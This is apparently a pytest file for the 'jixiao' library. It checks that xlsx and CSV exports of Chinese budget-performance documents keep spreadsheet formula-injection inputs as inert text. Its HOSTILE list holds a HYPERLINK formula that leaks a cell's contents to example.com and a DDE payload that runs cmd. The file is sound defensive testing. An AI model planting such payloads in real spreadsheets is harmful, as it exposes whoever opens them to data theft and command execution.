"""The xlsx workbook and the CSV for spreadsheets, opened by real spreadsheet code: openpyxl for the
workbook, LibreOffice headless for the CSV."""

from __future__ import annotations

import datetime
import os
import shutil
import subprocess
from pathlib import Path

import pytest

import jixiao

openpyxl = pytest.importorskip("openpyxl", reason="python3-openpyxl not installed")

ROOT = Path(__file__).resolve().parents[2]
ACTUALS = ROOT / "examples" / "data" / "zjk-kexie-2025-actuals.csv"
# Text a spreadsheet would run: a formula, a DDE payload, a function after @, arithmetic after + and -.
HOSTILE = ['=HYPERLINK("http://example.com/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-1+2", "\t=1+1"]


def _hostile(sample) -> jixiao.Document:
    document = jixiao.document_from_json(jixiao.to_json(sample))
    document.department = HOSTILE[0]
    for project, text in zip(document.projects, HOSTILE[1:]):
        project.name = text
    document.projects[0].indicators[0].name = HOSTILE[0]
    return document


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _columns(sheet) -> dict[str, int]:
    return {cell.value: cell.column for cell in sheet[1]}


@pytest.fixture(scope="module")
def workbook(sample, tmp_path_factory):
    path = tmp_path_factory.mktemp("xlsx") / "sample.xlsx"
    assert jixiao.to_excel(_hostile(sample), path, ACTUALS, as_of="2025-06-30") == path
    return openpyxl.load_workbook(path)


def test_the_sheets(workbook):
    assert workbook.sheetnames == ["项目", "指标", "支出计划", "审核意见", "运行监控-项目", "运行监控-指标",
                                   "运行监控-偏差说明", "绩效自评-项目", "绩效自评-指标", "部门", "诊断"]


def test_no_cell_is_a_formula_and_hostile_text_stays_text(workbook):
    cells = list(_cells(workbook))
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in HOSTILE:
        assert text in texts


def test_typed_cells_and_formats(workbook, sample):
    sheet = workbook["指标"]
    columns = _columns(sheet)
    row = [c for c in sheet[2]]
    budget = row[columns["budget_total"] - 1]
    assert budget.data_type == "n" and budget.value == 15.75 and budget.number_format == "0.00"
    assert row[columns["budget_total_text"] - 1].value == "15.75"
    assert row[columns["budget_total_text"] - 1].data_type == "s"
    assert row[columns["year"] - 1].value == 2025 and row[columns["year"] - 1].data_type == "n"
    assert row[columns["value"] - 1].value == 30 and row[columns["value"] - 1].number_format == "0"
    assert row[columns["project_code"] - 1].data_type == "s"  # codes of digits stay text
    assert row[columns["unit_code"] - 1].value == "731001"
    # Dates are dates: the first deadline or period end of the sample.
    ends = [r[columns["end"] - 1] for r in sheet.iter_rows(min_row=2) if r[columns["end"] - 1].value is not None]
    assert ends and all(c.is_date for c in ends)
    assert {c.number_format for c in ends} <= {"yyyy-mm-dd", "yyyy-mm", "yyyy"}
    assert isinstance(ends[0].value, datetime.datetime)

    monitoring = workbook["运行监控-项目"]
    columns = _columns(monitoring)
    row = [c for c in monitoring[2]]
    assert row[columns["time_progress"] - 1].value == 0.5
    assert row[columns["time_progress"] - 1].number_format == "0.00%"
    assert row[columns["time_progress_text"] - 1].value == "50.00"
    assert row[columns["as_of"] - 1].is_date
    spent = row[columns["spent_percent"] - 1]
    assert spent.number_format.endswith("%") and 0 <= spent.value <= 2


def test_frozen_header_autofilter_and_widths_for_cjk(workbook):
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        for cell in sheet[1]:
            assert cell.font.b
    sheet = workbook["指标"]
    columns = _columns(sheet)
    letter = openpyxl.utils.get_column_letter
    # 张家口市科学技术协会 (10 CJK characters) needs about 20 character cells; 13070024P00000410006W 21.
    department = sheet.column_dimensions[letter(columns["department"])].width
    year = sheet.column_dimensions[letter(columns["year"])].width
    assert department >= 20 and year < 12


def test_several_documents_in_one_workbook(sample, tmp_path):
    other = jixiao.read(ROOT / "tests" / "cli" / "data" / "weighted.txt")
    path = jixiao.to_excel([sample, other], tmp_path / "two.xlsx")
    sheet = openpyxl.load_workbook(path)["项目"]
    assert sheet["A1"].value == "file"
    files = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert files == [str(sample.path)] * len(sample.projects) + [str(other.path)] * len(other.projects)


def test_a_self_evaluation_without_actuals_gets_its_audit(sample, tmp_path):
    audited = jixiao.read(ROOT / "examples" / "data" / "zjk-kexie-2024-self-evaluation.txt")
    book = openpyxl.load_workbook(jixiao.to_excel(audited, tmp_path / "audit.xlsx"))
    assert "绩效自评-项目" in book.sheetnames and "运行监控-项目" not in book.sheetnames
    sheet = book["绩效自评-项目"]
    columns = _columns(sheet)
    assert sheet.cell(2, columns["total"]).value == 101
    assert sheet.cell(2, columns["reported_total"]).value == 95
    # A target table without actuals has nothing to score.
    plain = openpyxl.load_workbook(jixiao.to_excel(sample, tmp_path / "plain.xlsx"))
    assert "绩效自评-项目" not in plain.sheetnames


def test_text_past_excels_limit_is_cut_with_a_warning(sample, tmp_path):
    document = jixiao.document_from_json(jixiao.to_json(sample))
    document.projects[0].use_of_funds = "资" * 40000
    with pytest.warns(UserWarning, match=r"项目!O2 \(use_of_funds\): a text of 120000 bytes is cut"):
        jixiao.to_excel(document, tmp_path / "long.xlsx")


# The CSV through a real spreadsheet engine: LibreOffice converts it to xlsx as a user opening it
# would (comma-separated, UTF-8), and the result is inspected cell by cell.
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _through_libreoffice(csv_text: str, tmp_path: Path) -> list:
    source = tmp_path / "export.csv"
    source.write_text(csv_text, encoding="utf-8", newline="")
    profile = tmp_path / "profile"  # a fresh profile: no lock shared with another LibreOffice
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=180)
    return list(_cells(openpyxl.load_workbook(tmp_path / "export.xlsx")))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui)")
def test_csv_for_excel_opens_in_libreoffice_without_a_formula(sample, tmp_path):
    cells = _through_libreoffice(jixiao.to_csv(_hostile(sample), excel=True), tmp_path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in HOSTILE:
        assert "'" + text in texts
    # Numbers stay numbers, the header reads as written (the BOM is no part of it).
    assert cells[0].value == "department"
    assert any(c.data_type == "n" and c.value == 15.75 for c in cells)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui)")
def test_the_default_csv_would_run_formulas_in_libreoffice(sample, tmp_path):
    """The reason for --excel, and proof that the test above can fail."""
    cells = _through_libreoffice(jixiao.to_csv(_hostile(sample)), tmp_path)
    assert [c for c in cells if c.data_type == "f"]
